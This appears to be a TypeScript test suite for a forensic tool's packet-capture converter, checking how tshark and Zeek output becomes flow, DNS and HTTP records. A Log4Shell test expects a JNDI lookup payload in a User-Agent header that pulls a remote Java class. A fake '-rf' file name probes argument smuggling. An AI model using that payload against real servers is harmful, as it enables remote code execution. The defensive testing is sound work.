// Packet captures: what tshark sees becomes flows, requests and questions; without a tool, one clear sentence.
// The cases that run tshark are skipped, visibly, where it is not installed.
import { spawn } from 'node:child_process';
import {
  closeSync,
  existsSync,
  mkdtempSync,
  openSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import yauzl from 'yauzl';
import { byText } from '../../ground/ids.ts';
import type { Event } from '../../vocabulary/event.ts';
import type { Assumption, Sample } from '../format.ts';
import type { ToolRequest } from '../tool.ts';
import { openFlows } from './flows.ts';
import { format } from './format.ts';
import { frameFields, readFrame } from './frame.ts';

const tshark =
  ['/usr/bin/tshark', '/usr/local/bin/tshark', '/opt/homebrew/bin/tshark'].find(existsSync) ?? null;
const cases = fileURLToPath(new URL('cases/', import.meta.url));
const log4shell = fileURLToPath(
  new URL('../../../../../../shared/evidence/log4shell/pcap.zip', import.meta.url),
);

const made = mkdtempSync(join(tmpdir(), 'tocsin-pcap-test-'));
afterAll(() => rmSync(made, { recursive: true, force: true }));

const sampleOf = (bytes: Uint8Array): Sample => ({ bytes: bytes.subarray(0, 65_536), text: '', lines: [] });

/** Runs for real, as the loader does. */
const run: ToolRequest['run'] = (command, args, options) =>
  new Promise((resolve, reject) => {
    const output = options.stdoutPath === undefined ? undefined : openSync(options.stdoutPath, 'w');
    const child = spawn(command, args, {
      stdio: ['ignore', output ?? 'ignore', 'pipe'],
      ...(options.cwd === undefined ? {} : { cwd: options.cwd }),
    });
    let stderr = '';
    child.stderr?.on('data', (chunk: Buffer) => {
      stderr += chunk.toString();
    });
    child.on('error', reject);
    child.on('close', (status) => {
      if (output !== undefined) closeSync(output);
      resolve({ status, stderr });
    });
  });

interface Converted {
  readonly events: readonly Event[];
  readonly rejects: readonly string[];
  readonly assumptions: readonly Assumption[];
}

async function converted(path: string): Promise<Converted> {
  const scratch = mkdtempSync(join(made, 'scratch-'));
  const find = (command: string) => (command === 'tshark' ? tshark : null);
  const conversion = await format.convert({ path, scratch, find, run });
  if (conversion.kind !== 'outcomes') throw new Error('tshark was not used');
  const events: Event[] = [];
  const rejects: string[] = [];
  for await (const outcome of conversion.outcomes) {
    if ('event' in outcome) events.push(outcome.event);
    if ('reject' in outcome) rejects.push(outcome.reject.code);
  }
  return { events, rejects, assumptions: conversion.assumptions() };
}

const flowTo = (events: readonly Event[], port: number) =>
  events.find((event) => event.table === 'network' && event.fields.dst_port === port)?.fields;

describe.skipIf(tshark === null)('a capture read by tshark', () => {
  it('becomes flows, requests and questions, each once', async () => {
    const { events, rejects, assumptions } = await converted(join(cases, 'small.pcap'));
    const tables = events.reduce<Record<string, number>>(
      (sum, { table }) => Object.assign(sum, { [table]: (sum[table] ?? 0) + 1 }),
      {},
    );
    expect({ tables, rejects }).toEqual({ tables: { network: 12, dns: 4, http: 1 }, rejects: [] });
    expect(assumptions[0]).toMatchObject({ about: 'frames', value: '25 frames, 1 without an IP address' });
  });

  it('joins a question with its answers, and gives one without when none came', async () => {
    const { events } = await converted(join(cases, 'small.pcap'));
    const asked = events
      .filter((event) => event.table === 'dns')
      .map(({ fields }) => [fields.query, fields.query_type, fields.response_code, fields.answers]);
    expect(asked).toEqual([
      ['files.example', 'A', 'NOERROR', ['198.51.100.7', '198.51.100.8']],
      ['gone.example', 'A', 'NXDOMAIN', []],
      ['silent.example', 'TXT', undefined, undefined],
      ['files.example', 'A', undefined, undefined],
    ]);
  });

  it('counts the payload of a repeated segment once, and joins request and answer', async () => {
    const { events } = await converted(join(cases, 'small.pcap'));
    expect(flowTo(events, 8080)).toMatchObject({
      bytes_out: 95,
      bytes_in: 88,
      packets_out: 6,
      packets_in: 3,
      state: 'SF',
      service: 'http',
    });
    expect(events.find((event) => event.table === 'http')?.fields).toMatchObject({
      method: 'POST',
      host: 'files.example',
      uri: '/up.php?a=1',
      user_agent: 'probe/1',
      status: 404,
      request_bytes: 5,
      response_bytes: 3,
      mime_type: 'text/html',
    });
  });

  it('tells refused, silent and half-seen connections apart', async () => {
    const { events } = await converted(join(cases, 'small.pcap'));
    expect([23, 25, 443, 22].map((port) => flowTo(events, port)?.state)).toEqual(['REJ', 'S0', 'OTH', 'S0']);
    expect(flowTo(events, 443)).toMatchObject({ src_ip: '192.0.2.10', bytes_out: 0, bytes_in: 50 });
  });

  it.each(['small-be-ns.pcap', 'small.pcapng'])('reads %s the same', async (name) => {
    expect(await converted(join(cases, name))).toEqual(await converted(join(cases, 'small.pcap')));
  });

  it('keeps what stands before the place where a capture breaks off', async () => {
    const path = join(made, 'cut.pcap');
    writeFileSync(path, readFileSync(join(cases, 'small.pcap')).subarray(0, 1000));
    const { events, rejects } = await converted(path);
    expect(rejects).toEqual(['cut-off']);
    expect(events.filter((event) => event.table === 'dns')).toHaveLength(3);
  });

  it.skipIf(!existsSync(log4shell))(
    'tells the Log4Shell attack as tshark shows it by hand (needs shared evidence)',
    async () => {
      const path = await unzipped(log4shell);
      const { events, rejects, assumptions } = await converted(path);
      const requests = events
        .filter((event) => event.table === 'http')
        .map(({ time, fields }) => [
          time,
          fields.src_ip,
          fields.dst_ip,
          fields.dst_port,
          fields.method,
          fields.uri,
          fields.user_agent,
          fields.status,
        ]);
      expect(requests.toSorted(([left], [right]) => byText(String(left), String(right)))).toEqual([
        [
          '2022-05-11T18:10:20.900321Z',
          '192.168.2.6',
          '192.168.2.5',
          8080,
          'GET',
          '/Log4j-2.14.0-SNAPSHOT/api',
          '$' + '{jndi:ldap://192.168.2.6:1389/o=reference}',
          200,
        ],
        [
          '2022-05-11T18:10:21.922239Z',
          '192.168.2.5',
          '192.168.2.6',
          8888,
          'GET',
          '/xExportObject.class',
          'Java/1.8.0_312',
          200,
        ],
      ]);
      const flows = [8080, 1389, 8888, 443].map((port) => {
        const flow = flowTo(events, port) ?? {};
        return [flow.src_ip, flow.packets_out, flow.packets_in, flow.wire_bytes_out, flow.wire_bytes_in];
      });
      // Frames and bytes as in `tshark -z conv,tcp`, less 14 bytes of Ethernet a frame.
      expect(flows).toEqual([
        ['192.168.2.6', 6, 4, 541 - 84, 605 - 56],
        ['192.168.2.5', 10, 8, 797 - 140, 732 - 112],
        ['192.168.2.5', 7, 5, 688 - 98, 1558 - 70],
        ['192.168.2.5', 13, 12, 1049 - 182, 808 - 168],
      ]);
      expect(rejects).toEqual([]);
      expect(assumptions[0]?.value).toBe('67 frames, 2 without an IP address');
    },
  );
});

/** The one file of an archive, on disk. */
function unzipped(archive: string): Promise<string> {
  return new Promise((resolve, reject) => {
    yauzl.open(archive, { lazyEntries: true }, (failure, zip) => {
      if (failure) return reject(failure);
      zip.on('entry', (entry) => {
        zip.openReadStream(entry, (broken, stream) => {
          if (broken) return reject(broken);
          const chunks: Buffer[] = [];
          stream.on('data', (chunk: Buffer) => chunks.push(chunk));
          stream.on('end', () => {
            const path = join(made, 'log4shell.pcap');
            writeFileSync(path, Buffer.concat(chunks));
            resolve(path);
          });
        });
      });
      zip.readEntry();
    });
  });
}

describe('choosing a tool', () => {
  const request = (installed: readonly string[], calls: unknown[]): ToolRequest => ({
    path: '/evidence/-rf.pcap',
    scratch: mkdtempSync(join(made, 'scratch-')),
    find: (command) => (installed.includes(command) ? `/usr/bin/${command}` : null),
    run: (command, args, options) => {
      calls.push([command, args, options]);
      return Promise.resolve({ status: 0, stderr: '' });
    },
  });

  it('says what to install when there is none', async () => {
    expect(await format.convert(request([], []))).toEqual({
      kind: 'no-tool',
      note: 'Reading a packet capture needs zeek or tshark, and neither is installed: install the Debian package tshark.',
    });
  });

  it('prefers Zeek, and hands its logs over in a fixed order', async () => {
    const calls: unknown[] = [];
    const asked = request(['zeek', 'tshark'], calls);
    for (const name of ['http.log', 'conn.log', 'other.txt']) writeFileSync(join(asked.scratch, name), '');
    const conversion = await format.convert(asked);
    expect(conversion).toMatchObject({
      kind: 'logs',
      logs: ['conn.log', 'http.log'].map((name) => join(asked.scratch, name)),
      outcomes: [],
    });
    expect(calls).toEqual([
      ['/usr/bin/zeek', ['-C', '-r', '/evidence/-rf.pcap', 'LogAscii::use_json=F'], { cwd: asked.scratch }],
    ]);
  });

  it('asks tshark for no names, no Lua and no shell', async () => {
    const calls: [string, readonly string[], unknown][] = [];
    await format.convert(request(['tshark'], calls));
    expect(calls[0]?.[1].slice(0, 5)).toEqual(['-n', '-M', '200000', '-r', '/evidence/-rf.pcap']);
    expect(calls[0]?.[1]).not.toContain('-X');
  });
});

describe('recognising captures', () => {
  it.each([
    ...readdirSync(cases)
      .filter((name) => !name.endsWith('.md'))
      .map((name): [string, Uint8Array, number] => [name, readFileSync(join(cases, name)), 1]),
    ['text', Buffer.from('1709600000.0\tC1\t192.0.2.10\n'), 0],
    ['a magic number alone', Buffer.from('d4c3b2a1', 'hex'), 0],
    ['nothing', Buffer.alloc(0), 0],
  ] satisfies [string, Uint8Array, number][])('knows %s', (_, bytes, score) => {
    expect(format.recognise(sampleOf(bytes))).toBe(score);
  });
});

describe('frames from tshark', () => {
  const line = (values: Partial<Record<(typeof frameFields)[number], string>>) =>
    frameFields.map((field) => values[field] ?? '').join('\t');
  const scan = (host: number) =>
    line({
      'frame.number': String(host + 1),
      'frame.time_epoch': `1709600000.${String(host).padStart(6, '0')}`,
      'frame.protocols': 'eth:ethertype:ip:tcp',
      'ip.src': '192.0.2.10',
      'ip.dst': `10.0.${host >> 8}.${host & 255}`,
      'ip.proto': '6',
      'ip.len': '40',
      'tcp.srcport': '40000',
      'tcp.dstport': '445',
      'tcp.flags': '0x0002',
      'tcp.len': '0',
    });

  it('holds no more flows than its limit, and loses none', () => {
    const flows = openFlows(100);
    let early = 0;
    for (let host = 0; host < 1000; host += 1) {
      const read = readFrame(scan(host));
      if (read && 'frame' in read) early += flows.add(read.frame).length;
    }
    const late = flows.end().length;
    expect({ all: early + late, late: late <= 100 }).toEqual({ all: 1000, late: true });
  });

  it('takes the outer addresses of a tunnel and the family they belong to', () => {
    const read = readFrame(
      line({
        'frame.time_epoch': '1.5',
        'frame.protocols': 'eth:ethertype:ipv6:ip:tcp',
        'ip.src': '10.0.0.1',
        'ip.dst': '10.0.0.2',
        'ip.proto': '6',
        'ipv6.src': '2001:db8::1',
        'ipv6.dst': '2001:db8::2',
        'ipv6.nxt': '4',
      }),
    );
    expect(read && 'frame' in read ? [read.frame.src, read.frame.protocol] : read).toEqual([
      '2001:db8::1',
      'ip-4',
    ]);
  });

  it('does not cut a request short at the character that stands between fields', () => {
    const read = readFrame(
      line({
        'frame.time_epoch': '1.5',
        'frame.protocols': 'eth:ip:tcp:http',
        'ip.src': '192.0.2.1',
        'ip.dst': '192.0.2.2',
        'ip.proto': '6',
        'http.request.method': 'GET',
        'http.request.uri': '/a\x1f?q=1',
      }),
    );
    const flows = openFlows();
    if (read && 'frame' in read) flows.add(read.frame);
    expect(flows.end().find((event) => event.table === 'http')?.fields.uri).toBe('/a\x1f?q=1');
  });

  it('never throws, whatever the line', () => {
    const cell = fc.oneof(
      fc.string(),
      fc.ipV4(),
      fc.nat().map(String),
      fc.constant('0x0012'),
      fc.constant('tcp'),
    );
    const whole = fc
      .array(cell, { minLength: frameFields.length, maxLength: frameFields.length })
      .map((cells) => cells.join('\t'));
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.string(), whole, fc.nat(300).map(scan)), { maxLength: 20 }),
        (lines) => {
          const flows = openFlows(5);
          for (const text of lines) {
            const read = readFrame(text);
            if (read && 'frame' in read) flows.add(read.frame);
          }
          expect(flows.end().length).toBeGreaterThanOrEqual(0);
        },
      ),
    );
  });
});
